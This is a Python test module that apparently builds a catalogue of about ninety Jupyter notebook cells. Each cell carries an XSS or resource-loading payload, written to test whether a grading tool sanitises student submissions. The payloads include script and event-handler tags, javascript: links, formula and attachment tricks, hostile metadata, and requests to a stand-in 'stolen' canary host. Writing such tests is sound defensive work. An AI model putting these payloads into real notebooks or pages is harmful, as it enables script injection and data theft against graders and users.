"""What a student can put into a notebook to have a browser run, fetch or follow something.

Each payload is one cell as it lies in a file, outputs included; a code cell's source makes the
same outputs when it is run. It calls `console.log(/RAN:<name>/)`, or asks for an address with
the word "stolen" in it.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import nbformat
from nbformat import NotebookNode

__all__ = ["CANARY", "HOSTILE_ID", "HOSTILE_NAME", "PAYLOADS", "Payload", "javascript", "notebook_metadata"]

CANARY = "http://canary.invalid"
"""An address of another origin; nobody is there, and asking is enough."""

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HOSTILE_ID = '";console.log("RAN:student-id");"<img src=x onerror=console.log(1)>'
HOSTILE_NAME = "<img src=x onerror=console.log(/RAN:student-name/)>"


def javascript(name: str) -> str:
    """A statement without quotes, which the browser's console reports."""
    return f"console.log(/RAN:{name}/)"


@dataclass(frozen=True)
class Payload:
    """One attack.

    Attributes:
        name: Of letters and dashes; it is what the browser reports, and stands in the cell as text.
        cell: As it is handed in.
        live: Whether it works on a page that plain nbconvert makes (the test of the tests).
    """

    name: str
    cell: NotebookNode = field(repr=False)
    live: bool = True

    def __str__(self) -> str:
        return self.name


def _markdown(name: str, text: str, live: bool = True, **settings: Any) -> Payload:
    source = f"payload {name}\n\n" + text.replace("JS", javascript(name)).replace("CANARY", CANARY)
    return Payload(name, nbformat.v4.new_markdown_cell(source, id=f"payload-{name}", **settings), live)


def _output(name: str, data: Mapping, live: bool = True, metadata: Mapping | None = None) -> Payload:
    def filled(value: Any) -> Any:
        if isinstance(value, Mapping):
            return {key: filled(one) for key, one in value.items()}
        return (
            value.replace("JS", javascript(name)).replace("CANARY", CANARY)
            if isinstance(value, str)
            else value
        )

    data, metadata = filled(data), filled(metadata or {})
    source = (
        f"print('payload {name}')\n"
        f"from IPython.display import display\ndisplay({data!r}, raw=True, metadata={metadata!r})"
    )
    outputs = [nbformat.v4.new_output("display_data", data=data, metadata=metadata)]
    return Payload(name, nbformat.v4.new_code_cell(source, id=f"payload-{name}", outputs=outputs), live)


def _code(name: str, source: str, outputs: list[NotebookNode], live: bool = True) -> Payload:
    source = f"print('payload {name}')\n" + source.replace("JS", javascript(name))
    cell = nbformat.v4.new_code_cell(source, id=f"payload-{name}", outputs=outputs)
    return Payload(name, cell, live)


def _raw(name: str, text: str, live: bool = True, **metadata: Any) -> Payload:
    source = f"payload {name}\n\n" + text.replace("JS", javascript(name)).replace("CANARY", CANARY)
    return Payload(name, nbformat.v4.new_raw_cell(source, id=f"payload-{name}", metadata=metadata), live)


def _error(name: str) -> Payload:
    text = f"<img src=x onerror={javascript(name)}>"
    output = nbformat.v4.new_output(
        "error", ename=text, evalue=text, traceback=[text, f"\x1b[31m{text}\x1b[0m"]
    )
    return _code(name, f"raise type({text!r}, (Exception,), {{}})({text!r})", [output], live=False)


def _stream(name: str, channel: str) -> Payload:
    text = f"<img src=x onerror={javascript(name)}>\x1b[31m<script>{javascript(name)}</script>\x1b]8;;javascript:{javascript(name)}\x07x"
    output = nbformat.v4.new_output("stream", name=channel, text=text)
    return _code(name, f"import sys\nprint({text!r}, file=sys.{channel})", [output], live=False)


PAYLOADS = (
    _markdown("script", "<script>JS</script>"),
    _markdown("image-onerror", "<img src=x onerror=JS>"),
    _markdown("svg-onload", "<svg onload=JS></svg>"),
    _markdown("svg-script", "<svg><script>JS</script></svg>"),
    _markdown("details-ontoggle", "<details open ontoggle=JS>x</details>"),
    _markdown("input-autofocus", "<input autofocus onfocus=JS>"),
    _markdown("body-onload", "<body onload=JS>", live=False),
    _markdown("iframe-srcdoc", '<iframe srcdoc="<script>JS</script>"></iframe>'),
    _markdown("iframe-data", '<iframe src="data:text/html,<script>JS</script>"></iframe>'),
    _markdown("iframe-javascript", '<iframe src="javascript:JS"></iframe>'),
    _markdown("object-data", '<object data="data:text/html,<script>JS</script>"></object>'),
    _markdown("embed", '<embed src="CANARY/stolen-embed">'),
    _markdown("form-submitted", "<form action=CANARY/stolen-form><input autofocus onfocus=form.submit()></form>"),
    _markdown("meta-refresh", '<meta http-equiv=refresh content="0;url=CANARY/stolen-meta">'),
    _markdown("base", '<base href="CANARY/stolen-base/"><img src=x>'),
    _markdown("stylesheet", '<link rel=stylesheet href="CANARY/stolen-sheet">'),
    _markdown("style-import", '<style>@import "CANARY/stolen-import";</style>'),
    _markdown("style-background", '<p style="width:expression(JS);background:url(CANARY/stolen-style)">x</p>'),
    _markdown("video-poster", '<video poster="CANARY/stolen-poster"></video>'),
    _markdown("end-of-script", "</script></style></title></textarea>--><script>JS</script><!--"),
    _markdown("noscript", '<noscript><p title="</noscript><img src=x onerror=JS>">', live=False),
    _markdown("math-style", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=JS&gt;'>", live=False),
    _markdown("heading", "# <img src=x onerror=JS>"),
    _markdown("table", "| <img src=x onerror=JS> | b |\n|---|---|\n| a | b |"),
    _markdown("quote", "> - 1. <img src=x onerror=JS>"),
    _markdown("link-javascript", "[x](javascript:JS)"),
    _markdown("link-entity", "[x](java&#115;cript&colon;JS)"),
    _markdown("link-backslash", "[x](javascript\\:JS)"),
    _markdown("link-upper-case", "[x](JaVaScRiPt:JS)"),
    _markdown("link-control", "[x](&#1;javascript:JS)", live=False),
    _markdown("link-newline", "[x](java&NewLine;script:JS)", live=False),
    _markdown("link-reference", "[x][reference]\n\n[reference]: javascript:JS"),
    _markdown("link-autolink", "<javascript:JS>"),
    _markdown("link-vbscript", "[x](vbscript:JS)", live=False),
    _markdown("link-elsewhere", "[x](CANARY/stolen-link)"),
    _markdown("link-bare", "CANARY/stolen-bare"),
    _markdown("link-here", "[x](/formgrader/?path=stolen-path)"),
    _markdown("title-breakout", '[x](http://127.0.0.1 "\\" onmouseover=JS x=\\"")', live=False),
    _markdown("alternative-breakout", '![" onerror=JS x="](x.png)', live=False),
    _markdown("address-breakout", '![x](x.png"onerror="JS)', live=False),
    _markdown("picture-elsewhere", "![x](CANARY/stolen-picture)"),
    _markdown("picture-here", "![x](/formgrader/?path=stolen-path)"),
    _markdown("picture-beside", "![x](stolen-beside.svg)"),
    _markdown("picture-reference", "![x][stolen]\n\n[stolen]: CANARY/stolen-reference"),
    _markdown("picture-shortcut", "![stolen]\n\n[stolen]: CANARY/stolen-shortcut"),
    _markdown("picture-nested", "[![x](CANARY/stolen-nested)](CANARY/stolen-outer)"),
    _markdown("mermaid", "```mermaid\n<img src=x onerror=JS>\n```"),
    _markdown("fence", '```"><img src=x onerror=JS>\nx\n```', live=False),
    _markdown("code", "`<img src=x onerror=JS>`\n\n    <script>JS</script>", live=False),
    _markdown("formula-markup", "$$<img src=x onerror=JS>$$", live=False),
    _markdown("formula-environment", "\\begin{align}<img src=x onerror=JS>\\end{align}", live=False),
    _markdown("formula-link", "$\\href{javascript:JS}{x}$", live=False),
    _markdown("formula-link-elsewhere", "$\\href{CANARY/stolen-formula}{x}$"),
    _markdown("formula-token", "$\\mmlToken{mi}[href=CANARY/stolen-token]{x}$"),
    _markdown("formula-require", "$\\require{html}\\href{CANARY/stolen-require}{x}$"),
    _markdown("formula-style", "$\\style{background:url(CANARY/stolen-tex)}{x}$", live=False),
    _markdown("formula-macro", "$\\def\\a#1{\\href{#1}{x}}\\a{CANARY/stolen-macro}$"),
    _markdown(
        "attachment-svg",
        "![x](attachment:evil.svg)",
        live=False,
        attachments={"evil.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"}},
    ),
    _markdown(
        "attachment-breakout",
        "![x](attachment:x.png)",
        attachments={"x.png": {"image/png": f'" onerror="{javascript("attachment-breakout")}'}},
        live=False,
    ),
    _markdown(
        "attachment-link",
        "[x](attachment:evil.html)",
        attachments={"evil.html": {"text/html": "PHNjcmlwdD4="}},
        live=False,
    ),
    _markdown("tags", "x", live=False, metadata={"tags": [f'"><img src=x onerror={javascript("tags")}>']}),
    _raw("raw", "<script>JS</script><img src=x onerror=JS>", live=False),
    _raw("raw-html", "<script>JS</script><img src=x onerror=JS>", live=False, raw_mimetype="text/html"),
    _raw("raw-link", '<a href="CANARY/stolen-raw">x</a>'),
    _output("html", {"text/html": "<script>JS</script>"}),
    _output(
        "html-isolated", {"text/html": "<script>JS</script>"}, metadata={"text/html": {"isolated": True}}
    ),
    _output("script-output", {"application/javascript": "JS"}),
    _output("svg-output", {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>"}, live=False),
    _output("markdown-output", {"text/markdown": "<img src=x onerror=JS>"}),
    _output("markdown-picture", {"text/markdown": "![x](CANARY/stolen-output)"}),
    _output("latex-output", {"text/latex": "<img src=x onerror=JS>"}, live=False),
    _output("latex-link", {"text/latex": "$\\href{CANARY/stolen-latex}{x}$"}),
    _output("widget", {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>JS</script>"}}, live=False),
    _output("png-breakout", {"image/png": 'x" onerror="JS'}, live=False),
    _output("png-size", {"image/png": PIXEL}, metadata={"image/png": {"width": "1 onload=JS"}}),
    _output("png-alternative", {"image/png": PIXEL}, live=False, metadata={"image/png": {"alt": '" onload="JS'}}),
    _output("plain", {"text/plain": "<img src=x onerror=JS>\x1b[31m<script>JS</script>"}, live=False),
    _output("unknown-mime", {'text/x"><img src=x onerror=JS>': "x", "text/plain": "x"}, live=False),
    _code("source", "x = 1  # </pre></script><script>JS</script><img src=x onerror=JS>", [], live=False),
    _stream("stdout", "stdout"),
    _stream("stderr", "stderr"),
    _error("error"),
)  # fmt: skip


def notebook_metadata() -> dict:
    """Metadata of a notebook with a payload in every text."""
    text = f'"><img src=x onerror={javascript("metadata")}>'
    return {
        "title": text,
        "authors": [{"name": text}],
        "kernelspec": {"display_name": text, "language": text, "name": "python3"},
        "language_info": {"name": text, "pygments_lexer": text, "codemirror_mode": text},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"</script>": text}}},
    }
